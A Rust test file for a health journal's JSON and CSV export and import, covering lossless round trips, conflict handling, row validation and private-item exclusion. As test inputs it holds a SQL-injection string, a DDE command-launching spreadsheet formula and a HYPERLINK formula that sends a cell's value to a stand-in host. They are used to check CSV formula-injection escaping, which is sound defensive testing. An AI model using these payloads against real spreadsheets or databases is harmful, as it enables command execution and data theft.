//! Export and import round trips through real journal files: JSON is lossless and byte-stable,
//! CSV keeps every day's content; import is idempotent, refuses conflicts unless told to
//! replace, and imports nothing from a file with a bad row.
#![allow(clippy::unwrap_used)]

use crate::common::*;
use journal::exchange::{CsvOptions, ImportMode, ImportReport, export_csv, export_json, import};
use journal::{
    Catalog, DateRange, Day, Dose, Dreams, Error, Formulation, Micrograms, PrescribedDose, Question, RegimenPeriod,
    Score, Severity, SideEffectEntry, Sleep,
};

const ALL: DateRange = DateRange {
    from: match chrono::NaiveDate::from_ymd_opt(1900, 1, 1) {
        Some(d) => d,
        None => panic!(),
    },
    to: match chrono::NaiveDate::from_ymd_opt(2199, 12, 31) {
        Some(d) => d,
        None => panic!(),
    },
};

/// A journal that holds every hard case: Unicode, quotes, separators, long notes, several
/// doses with a missed one, unrated vs 0, side effect "none" vs absent, archived items.
fn tricky() -> TestJournal {
    let mut t = empty();
    for (name, desc) in [
        ("Pain 😖", "0 = none, 10 = worst"),
        ("Müdigkeit", "Erschöpfung"),
        ("ألم المفاصل", "آلام"),
        ("Bob's \"brain\" fog, 'really'", "a; b, c\nd"),
        ("Old symptom", ""),
    ] {
        t.add_item(Catalog::Symptoms, name, desc).unwrap();
    }
    let mut old = t.find_item(Catalog::Symptoms, "Old symptom").unwrap().unwrap();
    let tinnitus = t.add_item(Catalog::SideEffects, "Tinnitus 🎵", "ringing").unwrap();
    t.save_regimen_period(&RegimenPeriod {
        id: 0,
        from: date("2025-01-01"),
        until: Some(date("2025-01-31")),
        doses: vec![PrescribedDose { amount: Micrograms(1500), time: Some(time("22:00")) }],
        formulation: Formulation::Liquid,
        strength: "1 mg/mL".into(),
        pharmacy: "Pharmacie d'Épinal, \"Centre\"".into(),
        note: "as prescribed;\nline two".into(),
    })
    .unwrap();
    t.save_question(&Question {
        id: 0,
        text: "Morning or night? 🌙".into(),
        created: date("2025-01-02"),
        resolved: false,
    })
    .unwrap();
    t.save_question(&Question { id: 0, text: "Resolved one".into(), created: date("2025-01-01"), resolved: true })
        .unwrap();

    let long = "Long note with µ, emoji 🧠 and \"quotes\", commas, and\nnewlines.\r\n".repeat(160);
    assert!(long.chars().count() >= 10_000);
    let days = [
        Day {
            date: date("2025-01-01"),
            doses: vec![
                Dose::Taken {
                    time: Some(time("08:00")),
                    amount: Micrograms(750),
                    formulation: Formulation::SublingualDrops,
                    note: "drops, under the tongue; \"bitter\"".into(),
                    measured: None,
                },
                Dose::Missed { time: Some(time("22:00")), reason: "asleep,\nforgot".into() },
                Dose::Taken {
                    time: None,
                    amount: Micrograms(1),
                    formulation: Formulation::Other,
                    note: String::new(),
                    measured: None,
                },
            ],
            scores: vec![Score { symptom: 1, value: 0 }, Score { symptom: 3, value: 10 }],
            wellbeing: Some(0),
            sleep: Sleep {
                bedtime: Some(time("23:30")),
                wake: Some(time("07:05")),
                quality: Some(1),
                awakenings: Some(0),
            },
            dreams: Dreams { vivid: Some(journal::Vividness::NotVivid), nightmare: Some(true), notes: long.clone() },
            side_effects: vec![
                SideEffectEntry { side_effect: 1, severity: Severity::Absent },
                SideEffectEntry { side_effect: tinnitus.id, severity: Severity::Severe },
            ],
            intakes: Vec::new(),
            readings: Vec::new(),
            notes: "Café crème, naïve — שלום עולם, مرحبا; Robert'); DROP TABLE day;--".into(),
        },
        Day::new(date("2025-01-02")),
        Day {
            date: date("2025-01-05"),
            doses: vec![Dose::Missed { time: None, reason: String::new() }],
            scores: vec![Score { symptom: old.id, value: 4 }, Score { symptom: 2, value: 10 }],
            wellbeing: None,
            sleep: Sleep { bedtime: Some(time("01:00")), wake: None, quality: None, awakenings: Some(100) },
            dreams: Dreams { vivid: None, nightmare: Some(false), notes: String::new() },
            side_effects: vec![SideEffectEntry { side_effect: 3, severity: Severity::Mild }],
            intakes: Vec::new(),
            readings: Vec::new(),
            notes: long,
        },
        Day {
            date: date("2025-01-06"),
            doses: vec![
                Dose::Taken {
                    time: Some(time("21:59")),
                    amount: Micrograms(50_000),
                    formulation: Formulation::Cream,
                    note: String::new(),
                    measured: None,
                },
                Dose::Taken {
                    time: Some(time("00:00")),
                    amount: Micrograms(4_125),
                    formulation: Formulation::Tablet,
                    note: " spaces kept ".into(),
                    measured: None,
                },
            ],
            scores: vec![],
            wellbeing: Some(10),
            sleep: Sleep::default(),
            dreams: Dreams::default(),
            side_effects: vec![],
            intakes: Vec::new(),
            readings: Vec::new(),
            notes: "   ".into(),
        },
    ];
    for d in &days {
        t.save_day(d).unwrap();
    }
    old.archived = true;
    t.update_item(Catalog::Symptoms, &old).unwrap();
    t
}

/// Days with item ids replaced by names, to compare journals whose ids differ.
/// A day without ids, its scores by symptom name and its side effects by name.
type Named = (Day, Vec<(String, u8)>, Vec<(String, Severity)>);

fn by_name(t: &TestJournal) -> Vec<Named> {
    let symptoms = t.catalog(Catalog::Symptoms).unwrap();
    let side = t.catalog(Catalog::SideEffects).unwrap();
    let name = |items: &[journal::CatalogItem], id| items.iter().find(|i| i.id == id).unwrap().name.clone();
    t.days(ALL)
        .unwrap()
        .into_iter()
        .map(|mut d| {
            let mut s: Vec<_> = d.scores.iter().map(|s| (name(&symptoms, s.symptom), s.value)).collect();
            let mut e: Vec<_> = d.side_effects.iter().map(|s| (name(&side, s.side_effect), s.severity)).collect();
            s.sort();
            e.sort();
            (d.scores, d.side_effects) = (vec![], vec![]);
            (d, s, e)
        })
        .collect()
}

#[test]
fn json_export_import_export_is_byte_identical() {
    let src = tricky();
    let first = export_json(&src, ALL).unwrap();
    let mut dst = empty();
    let report = import(&mut dst, &first, ImportMode::RefuseConflicts).unwrap();
    assert_eq!((report.days_added, report.regimen_added, report.questions_added), (4, 1, 2));
    let second = export_json(&dst, ALL).unwrap();
    assert!(first == second, "export differs after import");
    assert_eq!(src.days(ALL).unwrap(), dst.days(ALL).unwrap());
    assert_eq!(src.catalog(Catalog::Symptoms).unwrap(), dst.catalog(Catalog::Symptoms).unwrap());
    assert_eq!(src.catalog(Catalog::SideEffects).unwrap(), dst.catalog(Catalog::SideEffects).unwrap());
    assert_eq!(src.regimen().unwrap(), dst.regimen().unwrap());
    assert_eq!(src.questions().unwrap(), dst.questions().unwrap());
}

#[test]
fn json_export_of_a_small_journal() {
    let mut t = with_symptoms();
    t.save_day(&full_day("2025-03-10")).unwrap();
    let mut d = Day::new(date("2025-03-11"));
    d.scores = vec![Score { symptom: PAIN, value: 0 }];
    t.save_day(&d).unwrap();
    insta::assert_snapshot!(export_json(&t, ALL).unwrap());
}

#[test]
fn json_export_of_a_range_keeps_the_lists_whole() {
    let src = tricky();
    let range = DateRange::new(date("2025-01-02"), date("2025-01-05")).unwrap();
    let part = export_json(&src, range).unwrap();
    let mut dst = empty();
    import(&mut dst, &part, ImportMode::RefuseConflicts).unwrap();
    assert_eq!(dst.logged_dates(ALL).unwrap(), [date("2025-01-02"), date("2025-01-05")]);
    assert_eq!(dst.catalog(Catalog::Symptoms).unwrap(), src.catalog(Catalog::Symptoms).unwrap());
}

#[test]
fn csv_round_trip_keeps_every_day() {
    let src = tricky();
    let csv = export_csv(&src, ALL, &CsvOptions::default()).unwrap();
    let mut dst = empty();
    let report = import(&mut dst, &csv, ImportMode::RefuseConflicts).unwrap();
    assert_eq!(report.days_added, 4);
    assert_eq!(by_name(&src), by_name(&dst));
    // And again: the second CSV is the first.
    assert_eq!(export_csv(&dst, ALL, &CsvOptions::default()).unwrap(), csv);
}

#[test]
fn csv_line_numbers_count_newlines_inside_notes() {
    let src = tricky();
    let csv = export_csv(&src, ALL, &CsvOptions::default()).unwrap();
    // Break the last row's wellbeing (10 → 11): its line is after many embedded newlines.
    let last_line = csv.lines().count(); // the last record starts and ends on the last line
    let broken = csv.replace("2025-01-06,10,", "2025-01-06,11,");
    assert_ne!(broken, csv);
    let mut dst = empty();
    match import(&mut dst, &broken, ImportMode::RefuseConflicts) {
        Err(Error::Import(p)) => {
            assert_eq!(p.len(), 1, "{p:?}");
            assert_eq!(p[0].to_string(), format!("line {last_line}, wellbeing: wellbeing must be 0–10, got 11"));
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn csv_format_is_readable() {
    let mut t = with_symptoms();
    t.save_day(&full_day("2025-03-10")).unwrap();
    insta::assert_snapshot!(export_csv(&t, ALL, &CsvOptions::default()).unwrap());
}

#[test]
fn import_is_idempotent() {
    let src = tricky();
    for text in [export_json(&src, ALL).unwrap(), export_csv(&src, ALL, &CsvOptions::default()).unwrap()] {
        let mut dst = empty();
        import(&mut dst, &text, ImportMode::RefuseConflicts).unwrap();
        let before = export_json(&dst, ALL).unwrap();
        let again = import(&mut dst, &text, ImportMode::RefuseConflicts).unwrap();
        assert_eq!(again, ImportReport { days_unchanged: 4, ..Default::default() });
        assert_eq!(export_json(&dst, ALL).unwrap(), before);
    }
}

#[test]
fn import_into_a_journal_with_days_merges_lists_by_name() {
    let src = tricky();
    let mut dst = with_symptoms();
    dst.add_item(Catalog::Symptoms, "pain 😖", "mine").unwrap(); // same name, other case
    dst.save_day(&full_day("2024-12-31")).unwrap();
    let report = import(&mut dst, &export_json(&src, ALL).unwrap(), ImportMode::RefuseConflicts).unwrap();
    assert_eq!((report.days_added, report.symptoms_added, report.side_effects_added), (4, 4, 1));
    let mut expected = by_name(&src);
    let mine = by_name(&dst);
    expected.insert(0, mine[0].clone());
    // The existing item keeps its own spelling.
    for (_, scores, _) in &mut expected {
        for (name, _) in scores {
            if name == "Pain 😖" {
                *name = "pain 😖".into();
            }
        }
    }
    assert_eq!(mine, expected);
}

#[test]
fn conflicting_days_are_refused_and_named() {
    let src = tricky();
    let text = export_json(&src, ALL).unwrap();
    let mut dst = with_symptoms();
    let mut mine = full_day("2025-01-05");
    mine.notes = "my own entry".into();
    dst.save_day(&mine).unwrap();
    dst.save_day(&full_day("2025-01-06")).unwrap();
    let before = export_json(&dst, ALL).unwrap();
    let e = err(import(&mut dst, &text, ImportMode::RefuseConflicts));
    assert!(matches!(&e, Error::Conflicts(d) if *d == [date("2025-01-05"), date("2025-01-06")]), "{e:?}");
    assert_eq!(
        e.to_string(),
        "nothing was imported; these days are already in the journal with other entries: 2025-01-05, 2025-01-06. \
         Import with replace to overwrite them."
    );
    assert_eq!(export_json(&dst, ALL).unwrap(), before, "a refused import changed the journal");
}

#[test]
fn conflicts_are_found_in_files_whose_days_are_not_in_order() {
    let mut src = with_symptoms();
    for d in ["2025-01-10", "2025-01-01", "2025-01-05"] {
        src.save_day(&full_day(d)).unwrap();
    }
    let mut doc = journal::exchange::document(&src, ALL).unwrap();
    doc.days.reverse(); // a hand-edited file
    let text = serde_json::to_string(&doc).unwrap();
    let mut dst = with_symptoms();
    let mut mine = full_day("2025-01-05");
    mine.notes = "mine".into();
    dst.save_day(&mine).unwrap();
    let e = err(import(&mut dst, &text, ImportMode::RefuseConflicts));
    assert!(matches!(&e, Error::Conflicts(d) if *d == [date("2025-01-05")]), "{e:?}");
    assert_eq!(dst.day(date("2025-01-05")).unwrap().unwrap().notes, "mine");
}

#[test]
fn replace_overwrites_conflicting_days() {
    let src = tricky();
    let mut dst = empty();
    import(&mut dst, &export_json(&src, ALL).unwrap(), ImportMode::RefuseConflicts).unwrap();
    let mut changed = dst.day(date("2025-01-06")).unwrap().unwrap();
    changed.notes = "edited since".into();
    dst.save_day(&changed).unwrap();
    let report = import(&mut dst, &export_json(&src, ALL).unwrap(), ImportMode::Replace).unwrap();
    assert_eq!(report, ImportReport { days_replaced: 1, days_unchanged: 3, ..Default::default() });
    assert_eq!(dst.days(ALL).unwrap(), src.days(ALL).unwrap());
}

#[test]
fn a_csv_with_bad_rows_imports_nothing_and_names_every_one() {
    let csv = "\
date,wellbeing,sleep quality,dose 1 status,dose 1 mg,symptom: Pain,side effect: Nausea
2025-01-01,5,3,taken,1.5,4,mild
2025-01-02,11,3,taken,1.5,4,mild
2025-01-03,5,3,taken,1.5,4,mild
2025-01-04,5,7,taken,60,x,often
2025-02-30,5,3,taken,1.5,4,mild
";
    let mut dst = with_symptoms();
    let e = err(import(&mut dst, csv, ImportMode::RefuseConflicts));
    let Error::Import(problems) = &e else { panic!("{e:?}") };
    let got: Vec<String> = problems.iter().map(ToString::to_string).collect();
    assert_eq!(
        got,
        [
            "line 3, wellbeing: wellbeing must be 0–10, got 11",
            "line 5, sleep quality: sleep quality must be 1–5, got 7",
            "line 5, symptom score: symptom score must be 0–10, got x",
            "line 5, side effect: side-effect severity must be none, mild, moderate or severe, got \"often\"",
            "line 5, doses[0].amount: 60 mg is not a low dose — check the unit (doses are recorded in mg, up to 50 mg)",
            "line 6, date: \"2025-02-30\" is not a date (YYYY-MM-DD)",
        ]
    );
    assert!(dst.logged_dates(ALL).unwrap().is_empty());
    assert_eq!(dst.catalog(Catalog::SideEffects).unwrap().len(), 7, "no side effect was added");
}

#[test]
fn a_json_file_with_bad_days_imports_nothing_and_names_every_one() {
    let mut src = with_symptoms();
    for d in ["2025-01-01", "2025-01-02", "2025-01-03"] {
        src.save_day(&full_day(d)).unwrap();
    }
    let mut doc = journal::exchange::document(&src, ALL).unwrap();
    doc.days[0].sleep.quality = Some(7);
    doc.days[2].doses = vec![taken(0, "22:00")];
    doc.days[2].scores.push(Score { symptom: 42, value: 1 });
    let text = serde_json::to_string_pretty(&doc).unwrap();
    let mut dst = empty();
    let e = err(import(&mut dst, &text, ImportMode::RefuseConflicts));
    let Error::Import(problems) = &e else { panic!("{e:?}") };
    let got: Vec<String> = problems.iter().map(ToString::to_string).collect();
    assert_eq!(
        got,
        [
            "days[0] (2025-01-01), sleep.quality: sleep quality must be 1–5, got 7",
            "days[2] (2025-01-03), doses[0].amount: dose must be more than 0 mg; record a missed dose instead",
            "days[2] (2025-01-03), scores[2].symptom: symptom 42 is not in the file's symptom list",
        ]
    );
    assert!(dst.logged_dates(ALL).unwrap().is_empty());
    assert!(dst.catalog(Catalog::Symptoms).unwrap().is_empty());
}

#[test]
fn import_into_a_journal_without_days_keeps_its_own_symptoms() {
    let source = tricky();
    let text = export_json(&source, ALL).unwrap();
    let mut target = empty();
    target.add_item(Catalog::Symptoms, "Set up before the first day", "").unwrap();
    import(&mut target, &text, ImportMode::RefuseConflicts).unwrap();
    let names: Vec<String> = target.catalog(Catalog::Symptoms).unwrap().into_iter().map(|i| i.name).collect();
    let file_names: Vec<String> = source.catalog(Catalog::Symptoms).unwrap().into_iter().map(|i| i.name).collect();
    assert_eq!(names[..file_names.len()], file_names[..], "the file's list comes first, ids kept");
    assert_eq!(names.last().map(String::as_str), Some("Set up before the first day"));
}

/// A text cell a spreadsheet would run as a formula (OWASP: it starts with =, +, -, @, a tab or
/// a carriage return) is written with a leading apostrophe, and so is one that starts with an
/// apostrophe; import takes it off again, so the CSV round trip stays exact. Numbers are
/// written as they are. Names sit in header cells after "symptom: " or "side effect: ", so
/// they cannot start a cell: they are written as they are.
#[test]
fn csv_text_cells_cannot_run_as_formulas() {
    let mut src = empty();
    let minus = src.add_item(Catalog::Symptoms, "-cough", "").unwrap().id;
    let formula = src.add_item(Catalog::SideEffects, "=cmd|' /C calc'!A0", "").unwrap().id;
    let hyperlink = r#"=HYPERLINK("https://x/?"&K2,"open")"#;
    let day = Day {
        date: date("2025-02-01"),
        doses: vec![
            Dose::Taken {
                time: Some(time("22:00")),
                amount: Micrograms(4500),
                formulation: Formulation::Capsule,
                note: "+1 extra".into(),
                measured: None,
            },
            Dose::Missed { time: None, reason: "@SUM(1+1)".into() },
            Dose::Taken {
                time: None,
                amount: Micrograms(500),
                formulation: Formulation::Capsule,
                note: "'quoted".into(),
                measured: None,
            },
        ],
        scores: vec![Score { symptom: minus, value: 3 }],
        wellbeing: Some(5),
        dreams: Dreams { notes: "\tindented".into(), ..Default::default() },
        side_effects: vec![SideEffectEntry { side_effect: formula, severity: Severity::Mild }],
        intakes: Vec::new(),
        readings: Vec::new(),
        notes: hyperlink.into(),
        ..Day::new(date("2025-02-01"))
    };
    let others = [
        ("2025-02-02", "'=1+1"),
        ("2025-02-03", "-"),
        ("2025-02-04", "\r\nafter a line break"),
        ("2025-02-05", "a = b - c"),
    ];
    src.save_day(&day).unwrap();
    for (d, note) in others {
        src.save_day(&Day { notes: note.into(), ..Day::new(date(d)) }).unwrap();
    }
    let csv = export_csv(&src, ALL, &CsvOptions::default()).unwrap();

    let mut r = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    let header = r.headers().unwrap().clone();
    assert!(header.iter().any(|h| h == "symptom: -cough"), "{header:?}");
    assert!(header.iter().any(|h| h == "side effect: =cmd|' /C calc'!A0"), "{header:?}");
    let cell = |row: &csv::StringRecord, name: &str| row[header.iter().position(|h| h == name).unwrap()].to_string();
    let rows: Vec<_> = r.records().map(Result::unwrap).collect();
    for row in &rows {
        for c in row.iter() {
            assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell would run as a formula: {c:?}");
        }
    }
    assert_eq!(cell(&rows[0], "notes"), format!("'{hyperlink}"));
    assert_eq!(cell(&rows[0], "dream notes"), "'\tindented");
    assert_eq!(cell(&rows[0], "dose 1 note"), "'+1 extra");
    assert_eq!(cell(&rows[0], "dose 2 note"), "'@SUM(1+1)");
    assert_eq!(cell(&rows[0], "dose 3 note"), "''quoted");
    assert_eq!(cell(&rows[0], "dose 1 mg"), "4.5");
    assert_eq!(cell(&rows[0], "symptom: -cough"), "3");
    assert_eq!(cell(&rows[1], "notes"), "''=1+1");
    assert_eq!(cell(&rows[2], "notes"), "'-");
    assert_eq!(cell(&rows[4], "notes"), "a = b - c");

    let mut dst = empty();
    import(&mut dst, &csv, ImportMode::RefuseConflicts).unwrap();
    assert_eq!(by_name(&src), by_name(&dst));
    assert_eq!(export_csv(&dst, ALL, &CsvOptions::default()).unwrap(), csv);
}

/// Two days with measures (a template, a pair several times a day, a free one with a negative
/// value), as-needed intakes, and events: one over both days, one for a day, one ongoing.
fn with_context() -> TestJournal {
    let mut t = with_symptoms();
    let template = |name| journal::measure::template_named(name).unwrap().measure();
    let weight = t.save_measure(&template("Weight")).unwrap().id;
    let bp = t.save_measure(&template("Blood pressure")).unwrap().id;
    let change =
        journal::Measure { name: "Temperature change".into(), unit: "K".into(), decimals: 1, ..Default::default() };
    let change = t.save_measure(&change).unwrap().id;
    let ibuprofen = t.save_medication(&medication("Ibuprofen", "2025-02-01", false)).unwrap().id;
    let value = |s| journal::MeasureValue::parse(s).unwrap();
    let mut one = Day::new(date("2025-03-01"));
    one.readings = vec![
        journal::Reading { measure: weight, time: None, value: value("71.3") },
        journal::Reading { measure: bp, time: Some(time("08:00")), value: value("120/80") },
        journal::Reading { measure: bp, time: Some(time("20:00")), value: value("118/79") },
        journal::Reading { measure: change, time: None, value: value("-0.5") },
    ];
    one.intakes = vec![
        journal::Intake { medication: ibuprofen, time: Some(time("14:00")), amount: "1 tablet".into() },
        journal::Intake { medication: ibuprofen, time: None, amount: String::new() },
    ];
    t.save_day(&one).unwrap();
    let mut two = Day::new(date("2025-03-02"));
    two.readings = vec![journal::Reading { measure: weight, time: Some(time("07:30")), value: value("71") }];
    t.save_day(&two).unwrap();
    let (infection, travel, flare) =
        (event_kind(&mut t, "infection"), event_kind(&mut t, "travel"), event_kind(&mut t, "flare"));
    for (kind, from, to) in [
        (infection, "2025-03-01", Some("2025-03-02")),
        (travel, "2025-03-01", Some("2025-03-01")),
        (flare, "2025-03-02", None),
    ] {
        let e = journal::Event { id: 0, kind, from: date(from), to: to.map(date), note: "not in CSV".into() };
        t.save_event(&e).unwrap();
    }
    t
}

fn medication(name: &str, from: &str, private: bool) -> journal::Medication {
    journal::Medication {
        id: 0,
        name: name.into(),
        dose: "400 mg".into(),
        schedule: String::new(),
        as_needed: true,
        from: date(from),
        until: None,
        note: String::new(),
        private,
    }
}

/// The cells of `csv` under `column`, row by row.
fn column(csv: &str, column: &str) -> Vec<String> {
    let mut r = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    let i = r.headers().unwrap().iter().position(|h| h == column).unwrap_or_else(|| panic!("no {column}: {csv}"));
    r.records().map(|row| row.unwrap()[i].to_string()).collect()
}

#[test]
fn csv_has_a_column_per_measure_and_the_days_intakes_and_events() {
    let t = with_context();
    let csv = export_csv(&t, ALL, &CsvOptions::default()).unwrap();
    assert_eq!(column(&csv, "measure: Weight"), ["71.3", "07:30 71"]);
    assert_eq!(column(&csv, "measure: Blood pressure"), ["08:00 120/80; 20:00 118/79", ""]);
    assert_eq!(column(&csv, "measure: Temperature change"), ["'-0.5", ""], "a negative value is not a formula");
    assert_eq!(column(&csv, "as needed"), ["Ibuprofen at 14:00 (1 tablet); Ibuprofen", ""]);
    assert_eq!(
        column(&csv, "events"),
        [
            "infection (2025-03-01 to 2025-03-02); travel (2025-03-01)",
            "infection (2025-03-01 to 2025-03-02); flare (since 2025-03-02)"
        ]
    );
    let mut plain = with_symptoms();
    plain.save_day(&full_day("2025-03-10")).unwrap();
    let header = export_csv(&plain, ALL, &CsvOptions::default()).unwrap();
    let header = header.lines().next().unwrap();
    assert!(!header.contains("as needed") && !header.contains("events"), "only when there are any: {header}");
}

#[test]
fn csv_round_trip_of_measures_intakes_and_events() {
    let src = with_context();
    let csv = export_csv(&src, ALL, &CsvOptions::default()).unwrap();
    let mut dst = empty();
    let report = import(&mut dst, &csv, ImportMode::RefuseConflicts).unwrap();
    assert_eq!((report.measures_added, report.medications_added, report.events_added), (3, 1, 3));
    assert_eq!(export_csv(&dst, ALL, &CsvOptions::default()).unwrap(), csv, "export → import → export");

    // What the CSV could not carry, set as the README says.
    let m = |name| dst.find_measure(name).unwrap().unwrap();
    assert_eq!((m("Weight").unit, m("Weight").decimals, m("Weight").paired), ("kg".into(), 1, false), "template");
    let bp = m("Blood pressure");
    assert!(bp.paired && bp.frequency == journal::Frequency::SeveralADay && bp.unit == "mmHg");
    let change = m("Temperature change");
    assert_eq!(
        (change.unit.as_str(), change.decimals, change.paired),
        ("", 1, false),
        "no unit, decimals of its values"
    );
    let meds = dst.medications().unwrap();
    assert_eq!(meds.len(), 1);
    assert!(meds[0].as_needed && meds[0].from == date("2025-03-01") && meds[0].until.is_none(), "{meds:?}");
    let events = dst.events(ALL).unwrap();
    assert_eq!(events.iter().filter(|e| e.to.is_none()).count(), 1, "the ongoing flare stays ongoing");
    assert!(events.iter().all(|e| e.note.is_empty()), "notes travel in JSON only");

    // Again: nothing new, nothing twice.
    let again = import(&mut dst, &csv, ImportMode::RefuseConflicts).unwrap();
    assert_eq!((again.measures_added, again.medications_added, again.events_added, again.days_unchanged), (0, 0, 0, 2));
}

#[test]
fn csv_intakes_and_readings_go_to_the_journals_items_of_that_name() {
    let src = with_context();
    let csv = export_csv(&src, ALL, &CsvOptions::default()).unwrap();
    let mut dst = empty();
    let mine = dst.save_medication(&medication("ibuprofen", "2025-01-01", false)).unwrap();
    dst.save_measure(&journal::measure::template_named("Weight").unwrap().measure()).unwrap();
    let report = import(&mut dst, &csv, ImportMode::RefuseConflicts).unwrap();
    assert_eq!((report.measures_added, report.medications_added), (2, 0));
    assert_eq!(dst.medications().unwrap(), std::slice::from_ref(&mine), "my entry, with its dose, is kept");
    let day = dst.day(date("2025-03-01")).unwrap().unwrap();
    assert!(day.intakes.iter().all(|i| i.medication == mine.id));

    // A medication of that name that was not taken yet on the day is refused, not bent.
    let mut late = empty();
    late.save_medication(&medication("Ibuprofen", "2025-03-02", false)).unwrap();
    match import(&mut late, &csv, ImportMode::RefuseConflicts) {
        Err(Error::Import(p)) => {
            assert_eq!(p.len(), 2, "{p:?}");
            assert!(p[0].to_string().contains("Ibuprofen is in your medication list from 2025-03-02"), "{}", p[0]);
        }
        other => panic!("{other:?}"),
    }
    assert!(late.day(date("2025-03-01")).unwrap().is_none(), "nothing imported");
}

#[test]
fn csv_leaves_private_items_out_unless_asked() {
    let mut t = with_context();
    let secret = t
        .save_measure(&journal::Measure {
            name: "Secret measure".into(),
            unit: "kg".into(),
            private: true,
            ..journal::Measure::default()
        })
        .unwrap()
        .id;
    let pill = t.save_medication(&medication("Secret pill", "2025-02-01", true)).unwrap().id;
    let kind = t.add_item(Catalog::EventKinds, "Secret kind", "").unwrap();
    t.update_item(Catalog::EventKinds, &journal::CatalogItem { private: true, ..kind.clone() }).unwrap();
    t.save_event(&journal::Event { id: 0, kind: kind.id, from: date("2025-03-02"), to: None, note: String::new() })
        .unwrap();
    let mut day = t.day(date("2025-03-02")).unwrap().unwrap();
    day.readings.push(journal::Reading {
        measure: secret,
        time: None,
        value: journal::MeasureValue::parse("3").unwrap(),
    });
    day.intakes.push(journal::Intake { medication: pill, time: None, amount: String::new() });
    t.save_day(&day).unwrap();

    let without = export_csv(&t, ALL, &CsvOptions::default()).unwrap();
    assert!(!without.contains("Secret"), "{without}");
    assert_eq!(column(&without, "as needed"), ["Ibuprofen at 14:00 (1 tablet); Ibuprofen", ""]);
    let with = export_csv(&t, ALL, &CsvOptions { include_private_items: true }).unwrap();
    assert_eq!(column(&with, "measure: Secret measure"), ["", "3"]);
    assert_eq!(column(&with, "as needed")[1], "Secret pill");
    assert!(column(&with, "events")[1].ends_with("; Secret kind (since 2025-03-02)"), "{with}");
}

#[test]
fn csv_cells_of_measures_intakes_and_events_that_do_not_read_are_reported() {
    let csv = "date,measure: Weight,events\n2025-03-01,seventy,flare (soon)\n2025-03-02,08:00,\n";
    let mut dst = empty();
    match import(&mut dst, csv, ImportMode::RefuseConflicts) {
        Err(Error::Import(p)) => {
            let p: Vec<String> = p.iter().map(ToString::to_string).collect();
            assert_eq!(
                p,
                [
                    "line 2, measure: Weight: \"seventy\" is not a number",
                    "line 2, events: \"flare (soon)\" is not an event like \"flare (2025-03-04 to 2025-03-08)\", \"flare (2025-03-04)\" or \"flare (since 2025-03-04)\"",
                    "line 3, measure: Weight: \"08:00\" is not a number",
                ]
            );
        }
        other => panic!("{other:?}"),
    }
}
